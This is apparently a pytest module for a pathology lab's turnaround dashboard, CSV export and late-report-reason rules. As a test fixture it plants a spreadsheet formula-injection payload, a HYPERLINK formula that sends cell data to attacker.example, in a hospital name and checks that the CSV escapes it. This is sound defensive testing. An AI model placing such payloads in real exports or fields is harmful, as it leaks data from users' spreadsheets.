"""The turnaround the centre must prove (CAP ANP.11820), against the real S3 server: a run of generated cases at
three hospitals, signed through the API by two pathologists, and the dashboard's figures and CSV checked against
figures computed here from the same inputs; a first report signed past 20 minutes needs its reason.
"""

from __future__ import annotations

import csv
import io
import statistics
from collections.abc import Iterator
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta

import pytest
from conftest import SHOTS, S3Server
from support.viewer import TRUSTED, Bucket, Served, serving, sign_in, wait_on

from caseformat.bounded import parse_time, utc_now
from caseformat.documents import STATION, CaseRecord, Report
from caseformat.layout import CASE_RECORD, MANIFEST, SlideRef, case_key, report_key, version_key
from caseformat.results import COMPLETE, Manifest

pytestmark = pytest.mark.slow

FORMULA = '=HYPERLINK("http://attacker.example/?d="&A1,"click")'
HOSPITALS = {"h1": "St Mary's", "h2": FORMULA, "h3": None}  # h3 names no hospital: the station stands for it
ANA, BEN = "Dr Ana Ruiz", "Dr Ben Okafor"


@dataclass(frozen=True)
class Planned:
    """A generated case: registered `minutes` ago, its slides' sends (slide, version, seconds after registration that
    the send started, seconds the overview took; None: no milestone), signed by `by` as `category`."""

    local: str
    station: str
    minutes: float
    by: str | None
    category: str = "benign"
    sends: tuple[tuple[str, str, float, float | None], ...] = (("s1", "v1", 60.0, 40.0),)

    @property
    def case(self) -> str:
        return f"{self.station}.{self.local}"


PLAN = [
    Planned("a", "h1", 6, ANA),
    Planned("b", "h1", 12, BEN, "malignant", (("s1", "v1", 90.0, 30.0), ("s2", "v1", 20.0, 15.0))),  # s2 viewable first
    Planned("c", "h1", 24, ANA, "deferred"),
    Planned("d", "h1", 41, BEN),
    Planned("e", "h2", 9, BEN, "deferred"),
    Planned("f", "h2", 17, ANA, "malignant", (("s1", "v1", 60.0, 50.0), ("s1", "v2", 600.0, 20.0))),  # a rescan: v1 was first
    Planned("g", "h2", 27, BEN),
    Planned("h", "h2", 55, ANA, "deferred"),
    Planned("i", "h3", 3, ANA),
    Planned("j", "h3", 14, ANA, "benign", (("s1", "v1", 30.0, None),)),  # a send with no overview milestone
    Planned("k", "h3", 22, BEN, "malignant"),
    Planned("l", "h3", 36, ANA),
    Planned("m", "h3", 2, None),  # registered, not signed yet
]


def register(bucket: Bucket, plan: Planned, now: datetime) -> str:
    """case.json and each send's manifest (with its overview milestone), as the station writes them."""
    registered = utc_now(now - timedelta(minutes=plan.minutes))
    context = (("specimen_site", "margin"),) + ((("hospital", hospital),) if (hospital := HOSPITALS[plan.station]) else ())
    bucket.put(case_key(plan.case, CASE_RECORD), CaseRecord(plan.case, registered, plan.station, context).to_json())
    for slide, version, start, overview in plan.sends:
        ref = SlideRef(plan.case, slide, version)
        started = utc_now(parse_time(registered) + timedelta(seconds=start))
        milestones: dict[str, float | None] = {"overview": overview} if overview is not None else {}
        manifest = Manifest(plan.case, slide, version, started, COMPLETE, milestones=milestones)
        bucket.put(version_key(ref, MANIFEST), manifest.to_json())
    return registered


def first_viewable(plan: Planned, registered: str) -> str | None:
    moments = [parse_time(registered) + timedelta(seconds=start + overview) for _, _, start, overview in plan.sends if overview is not None]
    return utc_now(min(moments)) if moments else None


def sign(served: Served, token: str, case: str, category: str, reason: str | None = None):  # type: ignore[no-untyped-def]
    form = {"category": category, "diagnosis": "Frozen section read.", "amends": None, **({"late_reason": reason} if reason else {})}
    return served.post(f"/api/cases/{case}/reports", token, json=form)


@pytest.fixture(scope="module")
def centre(s3_server: S3Server) -> Iterator[tuple[Served, dict[str, str], dict[str, dict]]]:  # type: ignore[type-arg]
    """The generated cases signed through the API; what is expected of each case, computed here."""
    bucket = Bucket(s3_server)
    now = datetime.now(UTC)
    registered = {plan.case: register(bucket, plan, now) for plan in PLAN}
    with serving(bucket.storage()) as served:
        tokens = {name: served.person(bucket.storage(), name) for name in (ANA, BEN)}
        expected: dict[str, dict] = {}  # type: ignore[type-arg]
        for plan in PLAN:
            signed = None
            if plan.by is not None:
                late = plan.minutes > 20
                response = sign(served, tokens[plan.by], plan.case, plan.category, f"waited for deeper levels of {plan.local}" if late else None)
                assert response.status_code == 200, response.text
                signed = response.json()
            minutes = (parse_time(signed["signed_at"]) - parse_time(registered[plan.case])) / timedelta(minutes=1) if signed else None
            viewable = first_viewable(plan, registered[plan.case])
            expected[plan.case] = {
                "case": plan.case, "hospital": HOSPITALS[plan.station] or plan.station, "station": plan.station,
                "registered_at": registered[plan.case], "first_viewable_at": viewable,
                "signed_at": signed["signed_at"] if signed else None, "minutes": minutes, "pathologist": plan.by,
                "category": plan.category if signed else None,
                "late_reason": f"waited for deeper levels of {plan.local}" if signed and plan.minutes > 20 else None,
                "minutes_to_viewable": round((parse_time(viewable) - parse_time(registered[plan.case])) / timedelta(minutes=1), 1) if viewable else None,
            }  # fmt: skip
        # an amendment never moves the clock
        amended = served.post("/api/cases/h1.a/reports", tokens[BEN], json={"category": "malignant", "diagnosis": "Amended.", "amends": 1})
        assert amended.status_code == 200, amended.text
        yield served, tokens, expected


def summary(cases: list[dict]) -> dict:  # type: ignore[type-arg]
    """The figures of a group, computed from the expected cases: what the dashboard must say."""
    timed = [case for case in cases if case["minutes"] is not None]
    within20 = sum(1 for case in timed if case["minutes"] <= 20)
    within30 = sum(1 for case in timed if case["minutes"] <= 30)
    return {
        "cases": len(cases), "signed": len(timed), "within_20": within20, "within_30": within30,
        "share_20": within20 / len(timed) if timed else None, "share_30": within30 / len(timed) if timed else None,
        "deferred": sum(1 for case in timed if case["category"] == "deferred"),
        "median_minutes": round(statistics.median(case["minutes"] for case in timed), 1) if timed else None,
    }  # fmt: skip


def test_the_dashboard_figures_are_those_of_the_cases(centre) -> None:  # type: ignore[no-untyped-def]
    served, tokens, expected = centre
    data = served.get("/api/turnaround", tokens[ANA]).json()
    assert data["limits_minutes"] == [20, 30]
    rows = {row["case"]: row for row in data["cases"]}
    assert set(rows) == set(expected) and len(data["cases"]) == len(PLAN)
    for case, want in expected.items():
        row = rows[case]
        assert {name: row[name] for name in ("hospital", "station", "registered_at", "first_viewable_at", "signed_at", "pathologist",
                                             "category", "late_reason", "minutes_to_viewable")} == \
            {name: want[name] for name in ("hospital", "station", "registered_at", "first_viewable_at", "signed_at", "pathologist",
                                           "category", "late_reason", "minutes_to_viewable")}, case  # fmt: skip
        if want["minutes"] is None:
            assert (row["minutes_to_report"], row["within_20"], row["within_30"], row["deferred"]) == (None, None, None, None)
        else:
            assert row["minutes_to_report"] == round(want["minutes"], 1)
            assert (row["within_20"], row["within_30"]) == (want["minutes"] <= 20, want["minutes"] <= 30), case
            assert row["deferred"] == (want["category"] == "deferred")
    # the amended case keeps its first report's time, category and signer
    assert (rows["h1.a"]["category"], rows["h1.a"]["pathologist"]) == ("benign", ANA)

    every = list(expected.values())
    assert {k: v for k, v in data["overall"].items()} == summary(every)
    assert data["overall"]["signed"] == 12 and data["overall"]["within_20"] == 6 and data["overall"]["within_30"] == 9
    hospitals = {entry["hospital"]: entry for entry in data["hospitals"]}
    assert set(hospitals) == {"St Mary's", FORMULA, "h3"}
    for name, entry in hospitals.items():
        assert {k: v for k, v in entry.items() if k != "hospital"} == summary([case for case in every if case["hospital"] == name]), name
    pathologists = {entry["pathologist"]: entry for entry in data["pathologists"]}
    assert set(pathologists) == {ANA, BEN}
    for name, entry in pathologists.items():
        figures = {k: v for k, v in entry.items() if k not in ("pathologist", "id")}
        assert figures == summary([case for case in every if case["pathologist"] == name]), name
        assert entry["id"].startswith("u")


def test_the_csv_has_one_row_per_case_with_the_same_numbers_and_no_formula(centre) -> None:  # type: ignore[no-untyped-def]
    served, tokens, expected = centre
    response = served.get("/api/turnaround.csv", tokens[BEN])
    assert response.status_code == 200 and response.headers["content-type"].startswith("text/csv")
    assert "attachment" in response.headers["content-disposition"]
    rows = list(csv.DictReader(io.StringIO(response.text)))
    assert len(rows) == len(PLAN) and {row["case"] for row in rows} == set(expected)
    json_rows = {row["case"]: row for row in served.get("/api/turnaround", tokens[BEN]).json()["cases"]}
    for row in rows:
        want = expected[row["case"]]
        shown = json_rows[row["case"]]
        assert row["minutes_to_report"] == ("" if want["minutes"] is None else str(round(want["minutes"], 1)))
        assert row["within_20"] == ("" if want["minutes"] is None else "yes" if want["minutes"] <= 20 else "no")
        assert (row["signed_at"], row["registered_at"], row["late_reason"]) == (want["signed_at"] or "", want["registered_at"], want["late_reason"] or "")
        assert row["minutes_to_viewable"] == ("" if shown["minutes_to_viewable"] is None else str(shown["minutes_to_viewable"]))
        assert not row["hospital"].startswith(("=", "+", "-", "@")), row
    formula_rows = [row for row in rows if row["case"].startswith("h2.")]
    assert formula_rows and all(row["hospital"] == "'" + FORMULA for row in formula_rows)
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row.values())


def test_the_period_chooses_the_cases_by_their_registration(centre) -> None:  # type: ignore[no-untyped-def]
    served, tokens, expected = centre
    since = utc_now(datetime.now(UTC) - timedelta(minutes=30))
    data = served.get("/api/turnaround", tokens[ANA], params={"since": since}).json()
    assert {row["case"] for row in data["cases"]} == {case for case, want in expected.items() if want["registered_at"] >= since}
    assert data["overall"] == summary([want for want in expected.values() if want["registered_at"] >= since])
    until = served.get("/api/turnaround", tokens[ANA], params={"until": since}).json()
    assert {row["case"] for row in until["cases"]} == {"h1.d", "h2.h", "h3.l"}
    bad = served.get("/api/turnaround", tokens[ANA], params={"since": "yesterday"})
    assert bad.status_code == 400 and "since" in bad.json()["detail"]


def test_only_a_pathologist_sees_the_turnaround(centre) -> None:  # type: ignore[no-untyped-def]
    served, _, _ = centre
    assert served.get("/api/turnaround").status_code == 401
    link = served.get("/api/turnaround.csv", served.token("h1.a"))
    assert link.status_code == 403 and "sign in as a pathologist" in link.json()["detail"]
    page = served.get("/turnaround")
    assert page.status_code == 200 and "turnaround.js" in page.text


def test_a_first_report_past_20_minutes_needs_its_reason_and_records_it(s3_server: S3Server) -> None:
    bucket = Bucket(s3_server)
    now = datetime.now(UTC)
    late, on_time = Planned("late", "h1", 21, ANA), Planned("soon", "h1", 5, ANA)
    register(bucket, late, now)
    register(bucket, on_time, now)
    with serving(bucket.storage()) as served:
        token = served.person(bucket.storage(), ANA)
        station = served.person(bucket.storage(), "h1", STATION, "h1")
        refused = sign(served, token, late.case, "benign")
        assert refused.status_code == 409
        detail = refused.json()["detail"]
        assert "CAP ANP.11820" in detail and "21 minutes after its registration" in detail and "late_reason" in detail
        assert "\n" not in detail
        assert sign(served, token, late.case, "benign", "x" * 501).status_code == 422  # bounded
        assert served.get(f"/api/cases/{late.case}/reports", token).json()["reports"] == []
        signed = sign(served, token, late.case, "benign", "frozen section of a second specimen first")
        assert signed.status_code == 200, signed.text
        assert signed.json()["late_reason"] == "frozen section of a second specimen first"
        stored = Report.read(bucket.get(report_key(late.case, 1)), "report 1", TRUSTED)
        assert stored.late_reason == "frozen section of a second specimen first"
        # the station reads the reason with the report
        assert served.get(f"/api/cases/{late.case}/reports", station).json()["reports"][0]["late_reason"] == stored.late_reason
        # an amendment is not held to the clock; an on-time report needs no reason and records none
        amended = served.post(f"/api/cases/{late.case}/reports", token, json={"category": "malignant", "diagnosis": "Amended.", "amends": 1})
        assert amended.status_code == 200 and "late_reason" not in amended.json()
        quick = sign(served, token, on_time.case, "benign")
        assert quick.status_code == 200 and "late_reason" not in quick.json()


def test_the_case_page_asks_why_after_20_minutes_and_the_dashboard_shows_it(browser, s3_server: S3Server) -> None:  # type: ignore[no-untyped-def]
    bucket = Bucket(s3_server)
    case = "h1.page"
    bucket.put(case_key(case, CASE_RECORD), CaseRecord(case, utc_now(datetime.now(UTC) - timedelta(minutes=25)), "h1",
                                                       (("hospital", "St Mary's"),)).to_json())  # fmt: skip
    bucket.send(case)
    with serving(bucket.storage()) as served:
        page = browser.new_page()
        sign_in(page, served, served.person(bucket.storage(), ANA))
        page.goto(f"{served.url}/view/{case}")
        wait_on(page, lambda: page.locator("#report-form").is_visible() and page.locator("#late").is_visible(), "the reason field")
        page.locator("#category").select_option("deferred")
        page.locator("#diagnosis").fill("Deferred to permanent sections.")
        page.locator("#sign").click()
        wait_on(page, lambda: "say why" in page.locator("#report-note").text_content(), "the page asking for the reason")
        assert served.get(f"/api/cases/{case}/reports", served.token(case)).json()["reports"] == []
        page.locator("#late-reason").fill("=the second frozen section of the list came first")
        page.once("dialog", lambda dialog: dialog.accept())
        page.locator("#sign").click()
        wait_on(page, lambda: page.locator("#signed").is_visible(), "the signed report")
        assert "=the second frozen section of the list came first" in page.locator("#signed-report").text_content()

        page.goto(f"{served.url}/turnaround")
        wait_on(page, lambda: page.locator("#cases tbody tr").count() == 1, "the case on the dashboard")
        row = page.locator("#cases tbody tr")
        assert "St Mary's" in row.text_content() and "=the second frozen section" in row.text_content()
        assert row.get_attribute("class") == "late"
        overall = page.locator("#overall tbody tr td").all_text_contents()
        assert overall == ["1", "0% (0)", "100% (1)", "1", overall[4]] and 25 <= float(overall[4]) < 27
        assert page.locator("#csv").get_attribute("href") == "/api/turnaround.csv"
        page.screenshot(path=str(SHOTS / "turnaround.png"), full_page=True)
        page.close()
